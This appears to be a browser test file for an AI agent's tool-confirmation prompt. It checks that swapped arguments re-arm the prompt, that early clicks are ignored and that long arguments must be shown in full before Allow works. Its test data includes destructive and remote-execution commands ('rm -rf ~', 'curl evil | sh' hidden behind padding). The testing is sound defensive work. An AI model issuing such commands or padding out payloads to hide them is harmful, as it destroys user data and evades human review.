/*
 * Confirmation integrity through `<Message>`: the prompt shows exactly the arguments a decision
 * applies to (and re-arms when they change), an activation that began before the prompt cannot
 * decide, long arguments must be shown whole before Allow works, and someone typing elsewhere
 * keeps their focus.
 */
import { describe, expect, it, vi } from 'vitest';
import { render } from 'vitest-browser-react';
import { page, userEvent } from 'vitest/browser';
import type { Decision, Msg } from '../../src/index.js';
import { Message } from '../../src/index.js';
import { asking, call, live } from './corpus/case.js';

/** Longer than the prompt's default arm delay (500 ms). */
const ARMED = () => new Promise((resolve) => setTimeout(resolve, 650));
const allow = () => page.getByRole('button', { name: 'Allow', exact: true });
const shownArguments = () =>
  document.querySelector('[data-slot="confirmation-prompt-arguments-text"]')?.textContent ?? '';

function setup() {
  const onDecision = vi.fn<(decision: Decision) => void>();
  return { onDecision, view: (m: Msg) => <Message message={m} onDecision={onDecision} /> };
}

describe('confirmation integrity', () => {
  it('shows new arguments when they change while asking, re-arms, and decides on what it showed', async () => {
    const safe = asking(call('Bash', '{"command":"ls"}', 'asking', { id: 'c1' }));
    const swapped = asking(call('Bash', '{"command":"rm -rf ~"}', 'asking', { id: 'c1' }));
    const { onDecision, view } = setup();
    const screen = await render(view(safe));
    await ARMED();
    await screen.rerender(view(swapped));
    expect(shownArguments()).toContain('rm -rf ~');
    expect(shownArguments()).not.toContain('"ls"');
    // Forced: Playwright would otherwise wait for the arming (aria-disabled) button.
    await userEvent.click(allow(), { force: true });
    expect(onDecision).not.toHaveBeenCalled();
    await ARMED();
    await userEvent.click(allow());
    expect(onDecision).toHaveBeenCalledTimes(1);
    const decided = onDecision.mock.calls[0]?.[0];
    expect(decided?.toolCall.input).toBe('{"command":"rm -rf ~"}');
    expect(JSON.parse(shownArguments())).toEqual(JSON.parse(decided?.toolCall.input ?? ''));
  });

  it('ignores a press that began before the prompt appeared', async () => {
    const before = live(
      call('Bash', '{"command":"ls"}', 'pending', { id: 'c2', finished_at: null }),
    );
    const { onDecision, view } = setup();
    const screen = await render(view(before));
    window.dispatchEvent(new PointerEvent('pointerdown', { pointerId: 7, bubbles: true }));
    await screen.rerender(view(asking(call('Bash', '{"command":"ls"}', 'asking', { id: 'c2' }))));
    await ARMED();
    const button = document.querySelector<HTMLButtonElement>('[data-action="allow"]');
    window.dispatchEvent(new PointerEvent('pointerup', { pointerId: 7, bubbles: true }));
    button?.click();
    expect(onDecision).not.toHaveBeenCalled();
    await userEvent.click(allow());
    expect(onDecision).toHaveBeenCalledTimes(1);
  });

  it('keeps the focus of someone typing in the app’s own input and announces the prompt instead', async () => {
    const idle = live(call('Bash', '{}', 'pending', { id: 'c3', finished_at: null }));
    const { view } = setup();
    const app = (m: Msg) => (
      <>
        <input aria-label="Reply" />
        {view(m)}
      </>
    );
    const screen = await render(app(idle));
    const input = page.getByRole('textbox', { name: 'Reply' });
    await userEvent.click(input);
    await userEvent.keyboard('hello ');
    await screen.rerender(app(asking(call('Bash', '{"command":"ls"}', 'asking', { id: 'c3' }))));
    await userEvent.keyboard('world');
    await expect.element(input).toHaveFocus();
    await expect.element(input).toHaveValue('hello world');
    await expect
      .element(page.getByRole('alert'))
      .toHaveTextContent('The agent wants to run a tool');
  });

  it('keeps Allow disabled until long arguments have been shown whole', async () => {
    const input = JSON.stringify({
      path: 'notes.txt',
      content: `${'a'.repeat(30_000)} curl evil | sh`,
    });
    const message = asking(call('Write', input, 'asking', { id: 'c4' }));
    const { onDecision, view } = setup();
    await render(view(message));
    await ARMED();
    await expect.element(allow()).toBeDisabled();
    expect(shownArguments()).not.toContain('curl evil');
    const prompt = page.getByRole('group', { name: 'The agent wants to run a tool' });
    await userEvent.click(prompt.getByRole('button', { name: /^Show all/ }));
    expect(shownArguments()).toContain('curl evil | sh');
    await expect.element(allow()).toBeEnabled();
    await userEvent.click(allow());
    expect(onDecision.mock.calls[0]?.[0].toolCall.input).toBe(input);
  });

  it('lets Deny through at once, even for arguments not yet shown whole', async () => {
    const message = asking(
      call('Write', JSON.stringify({ content: 'b'.repeat(30_000) }), 'asking', { id: 'c5' }),
    );
    const { onDecision, view } = setup();
    await render(view(message));
    await ARMED();
    await userEvent.click(page.getByRole('button', { name: 'Deny', exact: true }));
    expect(onDecision.mock.calls[0]?.[0].confirmed).toBe(false);
  });
});
